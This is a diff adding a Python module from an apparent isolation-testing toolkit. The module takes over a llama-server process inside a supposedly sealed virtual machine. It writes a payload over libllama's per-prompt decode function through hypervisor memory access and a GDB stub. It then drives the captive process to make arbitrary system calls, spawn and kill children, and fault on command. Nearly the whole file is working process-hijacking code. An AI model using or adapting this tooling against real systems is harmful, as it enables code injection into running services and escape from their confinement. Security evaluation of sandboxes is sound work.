@@ -1,0 +1,206 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A process that does what we say: a runtime taken over in a machine that was built to be sealed.
+
+The image has no hook for it. With the hypervisor's power over memory the code of `payload` is put in the place of
+a function that each prompt runs through; the process that runs it keeps user, namespaces, filters and limits of
+its unit, and from then on makes the system calls that it is told to. Owns that takeover and the calls; what is
+tried with them is `escape`.
+"""
+
+import os
+import struct
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import Protocol
+
+from mantlet.edge.attack import payload, payload_place
+from mantlet.edge.attack.escape_calls import Call
+from mantlet.edge.attack.gdb_stub import Stub
+from mantlet.edge.attack.guest_memory import PAGE_SIZE, GuestMemory
+from mantlet.edge.attack.payload import State
+from mantlet_measure.errors import UnavailableError
+
+# What llama-server calls for each batch of tokens; the first that the library exports.
+_FUNCTIONS = ("llama_process", "llama_decode")
+_POLL = 0.002
+_SEARCH_POLL = 0.5
+_WNOHANG = 1
+_STILL_RUNNING = -(1 << 62)
+
+
+@dataclass(frozen=True, slots=True)
+class Room:
+    """An argument that points to so many bytes of room, which come back."""
+
+    size: int
+
+
+@dataclass(frozen=True, slots=True)
+class Vector:
+    """An argument that points to an array of pointers to strings, with a null pointer at its end."""
+
+    strings: tuple[bytes, ...]
+
+
+Argument = int | bytes | Room | Vector
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Reply:
+    """What a system call returned (negative: an error's number) and what is in the rooms now."""
+
+    value: int
+    rooms: tuple[bytes, ...] = ()
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class ChildEnd:
+    """How a child ended. error: the negative number with which its call came back, or None when it did not;
+    status: as wait4 gives it, or None while it runs."""
+
+    error: int | None
+    status: int | None
+
+
+class Page(Protocol):
+    """The page that the process and we share."""
+
+    def read(self, at: int, size: int) -> bytes:
+        """Read as it is now."""
+
+    def write(self, at: int, data: bytes) -> None:
+        """Write; the process sees it at once."""
+
+
+@dataclass(frozen=True, slots=True)
+class Captive:
+    """The process at the other end of `page`."""
+
+    page: Page
+    patience: float = 60.0
+
+    def call(self, number: Call, *arguments: Argument) -> Reply:
+        """Have it make a system call. UnavailableError when it does not come back."""
+        rooms = self._put(number, arguments)
+        self._run(State.CALL)
+        value = self._signed(payload.RESULT)
+        return Reply(value=value, rooms=tuple(self.page.read(at, size) for at, size in rooms))
+
+    def call_in_child(self, number: Call, *arguments: Argument) -> ChildEnd:
+        """Have a child of it make a system call, and end; the child is awaited, and ended if it goes on."""
+        self._put(number, arguments)
+        self.page.write(payload.CHILD_RESULT, struct.pack("<q", _STILL_RUNNING))
+        self._run(State.CALL_IN_CHILD)
+        child = self._signed(payload.RESULT)
+        if child < 0:
+            return ChildEnd(error=child, status=None)
+        end = time.monotonic() + self.patience
+        waited = self.call(Call.WAIT4, child, Room(4), _WNOHANG, 0)
+        while waited.value == 0 and time.monotonic() < end:
+            time.sleep(10 * _POLL)
+            waited = self.call(Call.WAIT4, child, Room(4), _WNOHANG, 0)
+        error = self._signed(payload.CHILD_RESULT)
+        if waited.value == 0:
+            self.call(Call.KILL, child, 9)
+            self.call(Call.WAIT4, child, Room(4), 0, 0)
+            return ChildEnd(error=None, status=None)
+        status = struct.unpack("<i", waited.rooms[0])[0] if waited.value == child else None
+        return ChildEnd(error=None if error == _STILL_RUNNING else error, status=status)
+
+    def fault(self) -> None:
+        """Have it touch address 0. It does not come back."""
+        self.page.write(payload.STATE, struct.pack("<I", State.FAULT))
+
+    def _put(self, number: Call, arguments: tuple[Argument, ...]) -> list[tuple[int, int]]:
+        """Write a request but for its state; return place and size of each room."""
+        (base,) = struct.unpack("<Q", self.page.read(payload.ADDRESS, 8))
+        data = bytearray()
+        rooms: list[tuple[int, int]] = []
+
+        def add(content: bytes) -> int:
+            data.extend(bytes(-len(data) % 8))
+            at = payload.DATA + len(data)
+            data.extend(content)
+            return at
+
+        words = []
+        for argument in arguments:
+            match argument:
+                case int():
+                    words.append(argument)
+                case bytes():
+                    words.append(base + add(argument))
+                case Room(size):
+                    rooms.append((add(bytes(size)), size))
+                    words.append(base + rooms[-1][0])
+                case Vector(strings):
+                    pointers = [base + add(string + b"\0") for string in strings]
+                    words.append(base + add(struct.pack(f"<{len(pointers) + 1}Q", *pointers, 0)))
+        if len(data) > payload.DATA_SIZE:
+            raise ValueError(f"{len(data)} bytes of arguments do not fit into {payload.DATA_SIZE}")
+        self.page.write(payload.DATA, bytes(data))
+        self.page.write(payload.CALL, payload.call(number, words))
+        return rooms
+
+    def _run(self, state: State) -> None:
+        self.page.write(payload.STATE, struct.pack("<I", state))
+        end = time.monotonic() + self.patience
+        while self.page.read(payload.STATE, 4) != bytes(4):
+            if time.monotonic() > end:
+                raise UnavailableError(
+                    f"taken runtime: expected its call to return within {self.patience:.0f} s, found it waiting",
+                    hint="is the machine still on? A call that waits for others cannot be made",
+                )
+            time.sleep(_POLL)
+
+    def _signed(self, at: int) -> int:
+        value: int = struct.unpack("<q", self.page.read(at, 8))[0]
+        return value
+
+
+def plant(memory: GuestMemory, stub: Stub, library: bytes) -> bytes:
+    """Put the payload in the place of the function that each prompt runs through; return its marker.
+
+    library: the bytes of libllama.so as the image has them. UnavailableError when it is not in memory.
+    """
+    marker = os.urandom(payload.MARKER_SIZE)
+    code = payload.code(marker)
+    offsets = (payload_place.function_offset(library, name) for name in _FUNCTIONS)
+    offset = next((offset for offset in offsets if offset is not None), None)
+    if offset is None:
+        raise UnavailableError(
+            f"library of the runtime: expected one of {', '.join(_FUNCTIONS)}, found none exported",
+            hint="name the function that this version calls for each batch in mantlet.edge.attack.escape_process",
+        )
+    at = 0
+    while at < len(code):
+        start = (offset + at) % PAGE_SIZE
+        piece = code[at : at + PAGE_SIZE - start]
+        page = (offset + at) // PAGE_SIZE * PAGE_SIZE
+        places = memory.find_page(library[page : page + PAGE_SIZE])
+        if not places:
+            raise UnavailableError(
+                "memory of the machine: expected the code of the runtime, found none",
+                hint="let the machine serve a prompt first, and look at the library of the same build",
+            )
+        for place in places:
+            stub.write(place + start, piece)
+        at += len(piece)
+    return marker
+
+
+def find_page(memory: GuestMemory, marker: bytes, *, seconds: float, prompt: Callable[[], None]) -> int:
+    """Send a prompt and wait for the page that the taken process maps; return its address."""
+    end = time.monotonic() + seconds
+    prompt()
+    while True:
+        places = memory.find_page(marker)
+        if places:
+            return places[0]
+        if time.monotonic() > end:
+            raise UnavailableError(
+                f"memory of the machine: expected the taken runtime within {seconds:.0f} s, found none",
+                hint="is the machine serving? Does its runtime call the function that was replaced?",
+            )
+        time.sleep(_SEARCH_POLL)
